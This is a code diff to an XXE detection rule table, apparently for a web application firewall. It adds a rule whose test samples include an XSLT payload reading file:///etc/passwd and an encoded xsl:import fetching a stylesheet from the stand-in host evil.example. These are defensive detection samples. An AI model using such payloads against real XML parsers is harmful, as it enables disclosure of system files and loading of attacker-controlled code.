@@ -10,8 +10,11 @@ super::rules! { TABLE ["xxe", "CWE-611", "crs-944"];
     INCLUDE "xxe-003" "XInclude" Critical 1:
         "<xi:include href=\"file:///etc/passwd\"/>", "%253Cxi:include%2520href%253D'x'/%253E",
         not "an xi: include list";
+    TRANSFORM "xxe-004" "stylesheet that reaches out" Critical 1:
+        "<xsl:copy-of select=\"document('file:///etc/passwd')\"/>", "%253Cxsl:import%2520href%253D'http://evil.example/x.xsl'/%253E",
+        not "<xsl:value-of select=\"price\"/>";
 }
 
 super::literal::literals! {
-    INCLUDE, Any, Anywhere: ["<xi:include", "http://www.w3.org/2001/xinclude"];
+    INCLUDE, Any, Anywhere: ["http://www.w3.org/2001/xinclude"];
 }
